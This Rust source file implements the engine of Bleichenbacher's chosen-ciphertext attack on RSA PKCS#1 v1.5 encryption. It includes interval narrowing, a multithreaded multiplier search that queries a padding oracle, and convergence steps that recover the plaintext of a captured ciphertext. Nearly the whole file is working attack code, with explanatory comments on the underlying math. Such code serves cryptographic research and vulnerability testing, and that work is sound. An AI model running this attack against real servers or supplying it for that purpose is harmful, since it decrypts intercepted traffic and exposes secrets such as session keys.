//! Bleichenbacher's 1998 adaptive chosen-ciphertext attack against RSA
//! PKCS#1 v1.5 encryption.
//!
//! A conforming encryption block starts `00 02`, so the plaintext m of any
//! conforming ciphertext satisfies `2B <= m <= 3B - 1` with `B = 2^(k-16)`
//! for a k-bit key. Multiplying the captured ciphertext c by `s^e mod n`
//! multiplies the hidden plaintext by s; every s the oracle accepts
//! therefore constrains `m·s mod n` to that window, and intersecting the
//! resulting congruences narrows a set of candidate intervals until a
//! single value, the plaintext itself, remains.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use indicatif::ProgressBar;
use itertools::iproduct;
use num_bigint::{BigInt, Sign};
use num_integer::Integer;
use thiserror::Error;

use crate::interval::{Interval, IntervalSet, InvalidInterval};
use crate::oracle::PaddingOracle;
use crate::pool::{MultiplierPool, MultiplierTask};
use crate::utils::{bytes_to_hold, ceil_int, floor_int, pow2, pow2_round};

/// F4, the exponent on virtually every real-world RSA key.
pub const DEFAULT_EXPONENT: u32 = 0x10001;

#[derive(Debug, Error)]
pub enum EngineError {
    #[error("modulus must be a positive integer wide enough for PKCS#1 v1.5 (k >= 16 bits)")]
    InvalidModulus,
    #[error("public exponent must be a positive integer")]
    InvalidExponent,
    #[error("pool size must be greater than zero")]
    InvalidPoolSize,
    #[error(transparent)]
    InvalidInterval(#[from] InvalidInterval),
    #[error("narrowing left no candidate intervals: the oracle accepted a non-conforming ciphertext")]
    EmptyIntervalSet,
}

/// How a search ended: with the recovered plaintext, or cancelled from
/// another thread. Cancellation is an outcome, not an error.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SearchOutcome {
    Recovered {
        /// Lower bound of the final collapsed interval.
        lower_bound: BigInt,
        /// The plaintext, `lower_bound mod n`.
        plaintext: BigInt,
    },
    Stopped,
}

/// The phases of the attack. Searching hands multipliers to the worker
/// pool; narrowing rebuilds the interval set from an accepted multiplier;
/// converging walks bounded multiplier windows once one interval is left.
enum Phase {
    SearchingS { s_start: BigInt },
    Narrowing { s: BigInt },
    Converging { s: BigInt, interval: Interval },
}

pub struct Bleichenbacher {
    n: BigInt,
    e: BigInt,
    /// Padded key width in bits: the modulus width rounded up to a power
    /// of two.
    k: u64,
    b2: BigInt,
    /// 3B. The largest conforming plaintext is `b3 - 1`.
    b3: BigInt,
    s_min_start: BigInt,
    m0: IntervalSet,
    oracle: Arc<dyn PaddingOracle>,
    pool_size: usize,
    stop: Arc<AtomicBool>,
}

impl Bleichenbacher {
    pub fn new(
        n: &BigInt,
        e: &BigInt,
        oracle: Arc<dyn PaddingOracle>,
        pool_size: usize,
    ) -> Result<Self, EngineError> {
        if pool_size == 0 {
            return Err(EngineError::InvalidPoolSize);
        }
        if n.sign() != Sign::Plus {
            return Err(EngineError::InvalidModulus);
        }
        if e.sign() != Sign::Plus {
            return Err(EngineError::InvalidExponent);
        }
        let k = pow2_round((bytes_to_hold(n) * 8) as i64).map_err(|_| EngineError::InvalidModulus)?;
        if k < 16 {
            return Err(EngineError::InvalidModulus);
        }
        let b = pow2(k - 16);
        let b2 = 2 * &b;
        let b3 = 3 * &b;
        let s_min_start = ceil_int(n, &b3);
        let mut m0 = IntervalSet::default();
        m0.insert(&Interval::new(&b2, &(&b3 - 1))?);
        Ok(Self {
            n: n.clone(),
            e: e.clone(),
            k,
            b2,
            b3,
            s_min_start,
            m0,
            oracle,
            pool_size,
            stop: Arc::new(AtomicBool::new(false)),
        })
    }

    /// Padded key width in bits.
    pub fn k(&self) -> u64 {
        self.k
    }

    pub fn n(&self) -> &BigInt {
        &self.n
    }

    pub fn b2(&self) -> &BigInt {
        &self.b2
    }

    pub fn b3(&self) -> &BigInt {
        &self.b3
    }

    pub fn s_min_start(&self) -> &BigInt {
        &self.s_min_start
    }

    /// The starting interval set, `{[2B, 3B - 1]}`.
    pub fn initial_intervals(&self) -> &IntervalSet {
        &self.m0
    }

    /// Requests cancellation of a running search. Idempotent and safe to
    /// call from any thread; the search winds down at its next check and
    /// reports [`SearchOutcome::Stopped`].
    pub fn stop_search(&self) {
        self.stop.store(true, Ordering::SeqCst);
    }

    fn stopped(&self) -> bool {
        self.stop.load(Ordering::SeqCst)
    }

    /// Runs the full attack on a captured ciphertext. Blocks until the
    /// plaintext is recovered or [`stop_search`] is called.
    ///
    /// [`stop_search`]: Self::stop_search
    pub fn run_search(&self, c: &BigInt) -> Result<SearchOutcome, EngineError> {
        self.stop.store(false, Ordering::SeqCst);
        let pool = MultiplierPool::spawn(&self.n, &self.e, Arc::clone(&self.oracle), self.pool_size);
        let mut m = self.m0.clone();
        let mut phase = Phase::SearchingS {
            s_start: self.s_min_start.clone(),
        };
        loop {
            phase = match phase {
                Phase::SearchingS { s_start } => match self.search_episode(&pool, c, &s_start) {
                    Some((s, _)) => Phase::Narrowing { s },
                    None => return Ok(SearchOutcome::Stopped),
                },
                Phase::Narrowing { s } => {
                    m = self.narrow_interval(&s, &m)?;
                    match m.single() {
                        Some(interval) if interval.is_single() => {
                            let plaintext = interval.lower.mod_floor(&self.n);
                            return Ok(SearchOutcome::Recovered {
                                lower_bound: interval.lower,
                                plaintext,
                            });
                        }
                        Some(interval) => Phase::Converging { s, interval },
                        // Several candidate intervals left: canonical
                        // Bleichenbacher searches for a fresh multiplier
                        None => Phase::SearchingS { s_start: &s + 1 },
                    }
                }
                Phase::Converging { s, interval } => {
                    match self.converge_search(c, &s, &interval)? {
                        Some(s) => Phase::Narrowing { s },
                        None => return Ok(SearchOutcome::Stopped),
                    }
                }
            };
        }
    }

    /// One-off parallel multiplier search with its own worker pool: the
    /// smallest useful start is [`s_min_start`]. Returns the accepted
    /// multiplier and the iteration that found it, or `None` when stopped.
    ///
    /// [`s_min_start`]: Self::s_min_start
    pub fn s_search(&self, c: &BigInt, s_start: &BigInt) -> Option<(BigInt, u64)> {
        let pool = MultiplierPool::spawn(&self.n, &self.e, Arc::clone(&self.oracle), self.pool_size);
        self.search_episode(&pool, c, s_start)
    }

    /// Hands `(episode, c, s, i)` tasks to the pool with monotonically
    /// increasing `s` until a worker lands an accepting multiplier.
    fn search_episode(
        &self,
        pool: &MultiplierPool,
        c: &BigInt,
        s_start: &BigInt,
    ) -> Option<(BigInt, u64)> {
        let episode = pool.begin_episode();
        let spinner = ProgressBar::new_spinner();
        let mut s = s_start.clone();
        let mut iteration: u64 = 1;
        while pool.searching() {
            if self.stopped() {
                pool.cancel_episode();
                spinner.finish_and_clear();
                return None;
            }
            pool.submit(MultiplierTask {
                episode,
                c: c.clone(),
                s: s.clone(),
                iteration,
            });
            if iteration % 1000 == 0 {
                spinner.set_message(format!("searching s = {}", s));
                spinner.tick();
            }
            s += 1;
            iteration += 1;
        }
        spinner.finish_and_clear();
        let hit = pool.winner(episode)?;
        println!("s found in {} iterations: {}", hit.iteration, hit.s);
        Some((hit.s, hit.iteration))
    }

    /// The admissible multiples of n for an accepted multiplier over one
    /// candidate interval: every r with
    /// `ceil((a·s - 3B + 1) / n) <= r <= floor((b·s - 2B) / n)`.
    pub fn r_values_for(&self, s: &BigInt, interval: &Interval) -> Vec<BigInt> {
        let r_min = ceil_int(&(&interval.lower * s - &self.b3 + 1), &self.n);
        let r_max = floor_int(&(&interval.upper * s - &self.b2), &self.n);
        let mut values = Vec::new();
        let mut r = r_min;
        while r <= r_max {
            values.push(r.clone());
            r += 1;
        }
        values
    }

    /// The admissible multiples of n across the whole interval set.
    pub fn get_r_values(&self, s: &BigInt, m: &IntervalSet) -> Vec<BigInt> {
        let mut values: Vec<BigInt> = Vec::new();
        for interval in m.intervals() {
            for r in self.r_values_for(s, &interval) {
                if !values.contains(&r) {
                    values.push(r);
                }
            }
        }
        values
    }

    /// Rebuilds the interval set from every `(interval, r)` combination:
    /// the piece of `[a, b]` compatible with
    /// `2B <= m·s - r·n <= 3B - 1` survives.
    pub fn get_search_intervals(
        &self,
        r_values: &[BigInt],
        s: &BigInt,
        m: &IntervalSet,
    ) -> Result<IntervalSet, EngineError> {
        let mut narrowed = IntervalSet::default();
        for (interval, r) in iproduct!(m.intervals(), r_values) {
            let rn = r * &self.n;
            let lower = ceil_int(&(&self.b2 + &rn), s).max(interval.lower.clone());
            let upper = floor_int(&(&self.b3 - 1 + &rn), s).min(interval.upper.clone());
            if lower <= upper {
                narrowed.insert(&Interval::new(&lower, &upper)?);
            }
        }
        if narrowed.is_empty() {
            return Err(EngineError::EmptyIntervalSet);
        }
        Ok(narrowed)
    }

    /// One full narrowing step for an accepted multiplier.
    pub fn narrow_interval(&self, s: &BigInt, m: &IntervalSet) -> Result<IntervalSet, EngineError> {
        let r_values = self.get_r_values(s, m);
        self.get_search_intervals(&r_values, s, m)
    }

    /// The convergence generator: once a single interval `[a, b]` remains,
    /// yields successive multiplier windows
    /// `(ceil((2B + r·n) / b), floor((3B + r·n) / a))` for
    /// `r = floor(2(b·s - 2B) / n), r + 1, ...`, each roughly halving the
    /// interval once an accepting multiplier is found inside it.
    pub fn converge_s_interval(&self, s: &BigInt, interval: &Interval) -> ConvergenceWindows {
        let r = floor_int(
            &(2 * (&interval.upper * s - &self.b2)),
            &self.n,
        );
        ConvergenceWindows {
            r,
            lower: interval.lower.clone(),
            upper: interval.upper.clone(),
            n: self.n.clone(),
            b2: self.b2.clone(),
            b3: self.b3.clone(),
        }
    }

    /// Bounded linear search on the engine thread: walk each convergence
    /// window in order and return the smallest accepting multiplier; an
    /// exhausted window just advances to the next one.
    fn converge_search(
        &self,
        c: &BigInt,
        s_last: &BigInt,
        interval: &Interval,
    ) -> Result<Option<BigInt>, EngineError> {
        let mut windows = self.converge_s_interval(s_last, interval);
        let spinner = ProgressBar::new_spinner();
        loop {
            let (s_min, s_max) = windows.next().expect("convergence windows never end");
            spinner.set_message(format!("converging in [{}, {}]", s_min, s_max));
            spinner.tick();
            let mut s = s_min;
            while s <= s_max {
                if self.stopped() {
                    spinner.finish_and_clear();
                    return Ok(None);
                }
                let c_prime = (c * s.modpow(&self.e, &self.n)) % &self.n;
                if self.oracle.query(&c_prime).unwrap_or(false) {
                    spinner.finish_and_clear();
                    return Ok(Some(s));
                }
                s += 1;
            }
        }
    }
}

/// Iterator of `(s_min, s_max)` windows produced by
/// [`Bleichenbacher::converge_s_interval`].
pub struct ConvergenceWindows {
    r: BigInt,
    lower: BigInt,
    upper: BigInt,
    n: BigInt,
    b2: BigInt,
    b3: BigInt,
}

impl Iterator for ConvergenceWindows {
    type Item = (BigInt, BigInt);

    fn next(&mut self) -> Option<Self::Item> {
        let rn = &self.r * &self.n;
        let s_min = ceil_int(&(&self.b2 + &rn), &self.upper);
        let s_max = floor_int(&(&self.b3 + &rn), &self.lower);
        self.r += 1;
        Some((s_min, s_max))
    }
}
